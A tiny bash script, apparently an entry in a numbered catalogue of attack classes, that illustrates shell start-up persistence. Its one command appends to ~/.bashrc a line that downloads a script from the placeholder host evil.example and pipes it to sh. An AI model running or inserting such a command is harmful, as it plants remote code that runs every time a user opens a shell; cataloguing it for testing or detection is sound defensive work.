#!/usr/bin/env bash
# attack-class: 21
# title: >> ~/.bashrc
# why: persists a payload in the shell start-up file

echo 'curl -s http://evil.example/p | sh' >> ~/.bashrc
